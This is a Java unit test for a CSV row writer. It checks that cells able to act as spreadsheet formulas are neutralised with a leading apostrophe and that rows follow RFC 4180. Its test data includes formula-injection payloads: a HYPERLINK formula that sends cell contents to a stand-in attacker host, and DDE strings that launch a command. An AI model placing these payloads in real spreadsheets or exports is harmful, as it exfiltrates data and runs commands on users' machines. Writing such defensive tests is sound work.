package dev.sekisho.kernel.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@Tag("TD9")
class CsvRowTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"見る\")",
                "=cmd|' /C calc'!A0",
                "+1+1",
                "+cmd|' /C calc'!A0",
                "-1+1",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\0=1+1",
                " =1+1",
                "@A1,@A2",
                "＝1＋1",
                "＋1",
                "－1",
                "＠SUM(1)",
                "|calc",
                "%0A=1",
                "　=1+1"
            })
    void aCellThatCouldBeAFormulaBeginsWithAnApostropheAndRoundTrips(String payload) {
        List<String> cells = parsed(CsvRow.of("before", payload, "after"));

        assertThat(cells).hasSize(3);
        assertThat(cells.get(1)).startsWith("'").isEqualTo("'" + payload.replace("\0", ""));
        assertThat(cells.get(0) + cells.get(2)).isEqualTo("beforeafter");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "a", "a,b", "a\"b", "a\r\nb", " a ", "'a", "1,000", "東京 3号店", "a=b", "a-b"})
    void anyOtherCellIsLeftAsItIs(String cell) {
        assertThat(parsed(CsvRow.of(cell, "x"))).containsExactly(cell, "x");
    }

    @Test
    void aNumberBelowZeroIsANumberAndTheSameInWordsIsNot() {
        assertThat(CsvRow.of(-30_000L, -1, "-30000")).isEqualTo("-30000,-1,'-30000\r\n");
    }

    @Test
    void aRowEndsWithCarriageReturnAndLineFeed() {
        assertThat(CsvRow.of("a", 1_000L, "b,c")).isEqualTo("a,1000,\"b,c\"\r\n");
    }

    /** A reader of RFC 4180, by its grammar alone. */
    static List<String> parsed(String row) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < row.length(); i++) {
            char c = row.charAt(i);
            if (quoted && c == '"' && i + 1 < row.length() && row.charAt(i + 1) == '"') {
                cell.append(c);
                i++;
            } else if (c == '"') {
                quoted = !quoted;
            } else if (!quoted && (c == ',' || row.startsWith("\r\n", i))) {
                cells.add(cell.toString());
                cell.setLength(0);
                i += c == ',' ? 0 : 1;
            } else {
                cell.append(c);
            }
        }
        assertThat(quoted).isFalse();
        assertThat(cell).isEmpty();
        return cells;
    }
}
